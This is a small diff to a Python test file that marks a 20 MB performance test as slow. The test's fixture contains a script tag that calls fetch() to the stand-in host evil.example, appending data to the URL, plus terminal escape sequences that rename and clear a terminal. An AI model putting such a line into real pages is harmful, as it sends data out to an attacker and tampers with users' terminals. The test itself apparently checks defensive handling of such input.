@@ -181,6 +181,7 @@ def test_the_work_is_linear(source):
     assert time.process_time() - before < 4
 
 
+@pytest.mark.slow
 def test_a_page_of_20_mb_with_scripts_and_terminal_escapes():
     part = "<script>var a='\x1b]0;x\x07\x1b[2J';fetch('https://evil.example/' + a)</script><p>Tide \x1b[31m</p>\n"
     source = "<!doctype html><html><body>" + part * (20_000_000 // len(part))
